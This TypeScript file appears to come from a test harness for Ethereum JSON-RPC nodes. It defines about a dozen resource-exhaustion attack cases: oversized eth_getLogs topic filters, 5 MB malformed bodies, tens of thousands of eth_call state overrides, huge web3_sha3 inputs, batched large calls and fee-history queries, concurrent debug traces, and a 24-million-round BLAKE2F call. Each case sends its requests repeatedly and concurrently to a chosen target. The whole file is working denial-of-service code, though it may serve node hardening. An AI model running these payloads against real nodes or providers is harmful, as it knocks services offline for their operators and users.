/** Requests that are small for the client and large for the service. */
import type { AttackCase } from '../attackCase.js';
import { call, inWords, manyTimes, post, tally } from '../clients.js';
import { contractsOf } from '../contracts.js';

const ADDRESS = `0x${'11'.repeat(20)}`;

/** Wanted values that differ at their beginning only. */
const values = (count: number): string[] =>
  Array.from({ length: count }, (_, i) => `0x${(i + 1).toString(16).padStart(8, '0')}${'ab'.repeat(28)}`);

function members(count: number): string {
  return `{${Array.from({ length: count }, (_, i) => `"k${i}":0`).join(',')}}`;
}

function overrides(count: number): object {
  return Object.fromEntries(
    Array.from({ length: count }, (_, i) => [`0x${i.toString(16).padStart(40, '0')}`, { balance: '0x1' }]),
  );
}

/** BLAKE2F with 24 million rounds. */
const BLAKE = `0x016e3600${'00'.repeat(208)}01`;

/** The same request a few times, as 50 a second would be. */
async function repeated(times: number, atOnce: number, ask: () => Promise<string>): Promise<string> {
  return tally(
    (await manyTimes(times, atOnce, ask)).map((answer) => (answer.startsWith('failed') ? answer : inWords(answer))),
  );
}

export const requestCases: AttackCase[] = [
  {
    name: 'logs',
    what: 'eth_getLogs of a block with 5,000 logs, 4 × 1,000 wanted values that end alike, 20 times',
    async attack(target) {
      const { logBlock } = await contractsOf(target);
      const topics = [values(1_000), values(1_000), values(1_000), values(1_000)];
      return repeated(20, 4, () =>
        post(target, call('eth_getLogs', { fromBlock: logBlock, toBlock: logBlock, topics })),
      );
    },
  },
  {
    name: 'all-logs',
    what: 'eth_getLogs of that block, compressed, 20 at once',
    async attack(target) {
      const { logBlock } = await contractsOf(target);
      const body = call('eth_getLogs', { fromBlock: logBlock, toBlock: logBlock });
      return repeated(20, 20, () => post(target, body, { 'accept-encoding': 'br' }));
    },
  },
  {
    name: 'members',
    what: 'a body of 5 MB with 400,000 keys, 10 times',
    attack: (target) => {
      const body = `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[${members(400_000)}]}`;
      return repeated(10, 4, () => post(target, body));
    },
  },
  {
    name: 'values',
    what: 'a body of 5 MB of empty arrays, 10 times',
    attack: (target) => {
      const body = `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[${'[],'.repeat(1_600_000)}0]}`;
      return repeated(10, 4, () => post(target, body));
    },
  },
  {
    name: 'overrides',
    what: 'eth_call with 70,000 overrides, 5 times',
    attack: (target) => {
      const body = call('eth_call', { to: ADDRESS }, 'latest', overrides(70_000));
      return repeated(5, 2, () => post(target, body));
    },
  },
  {
    name: 'allowed-overrides',
    what: 'eth_call with as many overrides as are allowed (14,000), 5 times',
    attack: (target) => {
      const body = call('eth_call', { to: ADDRESS }, 'latest', overrides(14_000));
      return repeated(5, 2, () => post(target, body));
    },
  },
  {
    name: 'sha3',
    what: 'web3_sha3 of 2.6 MB, 20 times',
    attack: (target) => {
      const body = call('web3_sha3', `0x${'ab'.repeat(2_600_000)}`);
      return repeated(20, 4, () => post(target, body));
    },
  },
  {
    name: 'large-calls',
    what: 'a batch of 30 calls that return 3.5 MB each, 3 times',
    async attack(target) {
      const { largeAnswer } = await contractsOf(target);
      const body = `[${Array(30)
        .fill(call('eth_call', { to: largeAnswer }, 'latest'))
        .join(',')}]`;
      return repeated(3, 1, () => post(target, body));
    },
  },
  {
    name: 'fee-history',
    what: 'a batch of 100 × eth_feeHistory of 1,024 blocks and 100 percentiles, 5 times',
    attack: (target) => {
      const one = call(
        'eth_feeHistory',
        '0x400',
        'latest',
        Array.from({ length: 100 }, (_, i) => i),
      );
      const body = `[${Array(100).fill(one).join(',')}]`;
      return repeated(5, 2, () => post(target, body));
    },
  },
  {
    name: 'raw-receipts',
    what: 'debug_getRawReceipts of the block with 5,000 logs, 50 at once',
    async attack(target) {
      const { logBlock } = await contractsOf(target);
      return repeated(50, 50, () => post(target, call('debug_getRawReceipts', logBlock)));
    },
  },
  {
    name: 'trace',
    what: 'debug_traceBlockByNumber with memory of that block, 5 at once',
    async attack(target) {
      const { logBlock } = await contractsOf(target);
      return repeated(5, 5, () => post(target, call('debug_traceBlockByNumber', logBlock, { enableMemory: true })));
    },
  },
  {
    name: 'blake2f',
    what: 'a call of BLAKE2F with 24 million rounds, by 4 clients of which 3 leave',
    async attack(target) {
      const body = call('eth_call', { to: `0x${'09'.padStart(40, '0')}`, data: BLAKE, gas: '0x17d7840' }, 'latest');
      const leave = Array.from({ length: 3 }, () => {
        const leaving = new AbortController();
        setTimeout(() => leaving.abort(), 200);
        return fetch(target.url, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body,
          signal: leaving.signal,
        }).then(
          () => 'answered',
          () => 'left',
        );
      });
      const stayed = inWords(await post(target, body));
      return tally([stayed, ...(await Promise.all(leave))]);
    },
  },
];
